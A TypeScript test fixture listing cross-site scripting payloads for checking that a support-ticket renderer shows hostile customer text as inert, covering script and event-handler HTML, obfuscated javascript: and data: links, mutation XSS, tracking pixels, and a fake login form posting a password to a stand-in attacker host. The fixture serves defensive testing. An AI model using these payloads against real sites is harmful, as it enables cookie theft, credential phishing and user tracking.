/**
 * Hostile ticket content: what a customer (or a compromised mailbox) might put
 * in text that an agent then sees, quotes or forwards. Each entry must render
 * as inert text or a checked link. Exported so a browser test can render the
 * same corpus in Chromium and watch for dialogs and network requests.
 */
export interface XssCase {
  name: string;
  source: string;
}

export const XSS_CORPUS: readonly XssCase[] = [
  // Raw HTML
  { name: 'script tag', source: '<script>alert(1)</script>' },
  { name: 'script tag inside a sentence', source: 'Hello <script>alert(document.cookie)</script> world' },
  { name: 'img onerror', source: '<img src=x onerror=alert(1)>' },
  { name: 'event handler on a div', source: '<div onmouseover="alert(1)">hover me</div>' },
  { name: 'event handler inside emphasis', source: '**<b onclick=alert(1)>bold</b>**' },
  { name: 'details ontoggle', source: '<details open ontoggle=alert(1)><summary>x</summary></details>' },
  { name: 'svg onload', source: '<svg onload=alert(1)><circle r="10" /></svg>' },
  { name: 'svg with script', source: '<svg><script>alert(1)</script></svg>' },
  { name: 'iframe javascript', source: '<iframe src="javascript:alert(1)"></iframe>' },
  { name: 'iframe srcdoc', source: '<iframe srcdoc="<script>alert(1)</script>"></iframe>' },
  { name: 'style import', source: '<style>@import url(https://evil.example/x.css);</style>' },
  { name: 'style attribute', source: '<p style="background:url(https://tracker.example/p.gif)">styled</p>' },
  { name: 'stylesheet link', source: '<link rel="stylesheet" href="https://evil.example/x.css">' },
  {
    name: 'CSS import as text',
    source: '@import url(https://evil.example/x.css);\n\nbody { background: url(javascript:alert(1)) }',
  },
  { name: 'html comment', source: 'before <!-- <script>alert(1)</script> --> after' },
  { name: 'anchor with javascript href', source: '<a href="javascript:alert(1)">click</a>' },
  { name: 'anchor with entity-encoded href', source: '<a href="&#x6A;avascript:alert(1)">click</a>' },
  {
    name: 'form',
    source: '<form action="https://evil.example/steal"><input name="password"><button>Sign in</button></form>',
  },
  { name: 'meta refresh', source: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">' },
  { name: 'object', source: '<object data="javascript:alert(1)"></object>' },
  { name: 'embed', source: '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">' },
  { name: 'base href', source: '<base href="https://evil.example/">\n\n[relative](/login)' },
  { name: 'mutation XSS', source: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>' },
  { name: 'noscript breakout', source: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">' },

  // Markdown links
  { name: 'javascript link', source: '[click](javascript:alert(1))' },
  { name: 'javascript link, mixed case', source: '[click](JaVaScRiPt:alert(1))' },
  { name: 'javascript link, decimal entities', source: '[click](&#106;avascript&#58;alert(1))' },
  { name: 'javascript link, hex entity', source: '[click](&#x6A;avascript:alert(1))' },
  { name: 'javascript link, tab inside', source: '[click](<java\tscript:alert(1)>)' },
  { name: 'javascript link, escaped tab entity', source: '[click](java&#9;script:alert(1))' },
  { name: 'javascript link, newline entity', source: '[click](java&#10;script:alert(1))' },
  { name: 'javascript link, leading control character', source: '[click](<\u0001javascript:alert(1)>)' },
  { name: 'javascript link, leading space entity', source: '[click](&#32;javascript:alert(1))' },
  {
    name: 'javascript link with title injection',
    source: '[click](javascript:alert(1) "t\\" onmouseover=\\"alert(1)")',
  },
  { name: 'https link with title injection', source: '[click](https://ok.example "t\\" onmouseover=\\"alert(1)")' },
  { name: 'https link with quote injection', source: '[click](https://ok.example/"onclick="alert(1))' },
  { name: 'javascript autolink', source: '<javascript:alert(1)>' },
  { name: 'javascript autolink, upper case', source: '<JAVASCRIPT:alert(1)>' },
  { name: 'data link', source: '[open](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)' },
  { name: 'data autolink', source: '<data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>' },
  { name: 'data link, mixed case', source: '[open](DaTa:text/html,alert(1))' },
  { name: 'vbscript link', source: '[click](vbscript:msgbox(1))' },
  { name: 'file link', source: '[open](file:///etc/passwd)' },
  { name: 'protocol-relative link', source: '[bank](//evil.example/login)' },
  { name: 'relative link', source: '[admin](/admin)' },
  { name: 'reference-style javascript link', source: '[click][r]\n\n[r]: javascript:alert(1)' },
  { name: 'reference-style data link', source: '[open][d]\n\n[d]: data:text/html,<script>alert(1)</script>' },
  { name: 'misleading link text', source: '[https://bank.com](https://evil.example/login)' },
  { name: 'user part hiding the host', source: '<https://bank.com@evil.example/login>' },
  {
    name: 'image inside a javascript link',
    source: '[![logo](https://tracker.example/logo.png)](javascript:alert(1))',
  },

  // Images
  { name: 'tracking pixel', source: '![](https://tracker.example/p.gif)' },
  { name: 'reference-style tracking pixel', source: '![pixel][p]\n\n[p]: https://tracker.example/p.gif' },
  { name: 'javascript image', source: '![x](javascript:alert(1))' },
  { name: 'svg data image', source: '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)' },
  { name: 'image alt injection', source: '![" onerror="alert(1)](https://tracker.example/p.gif)' },
];
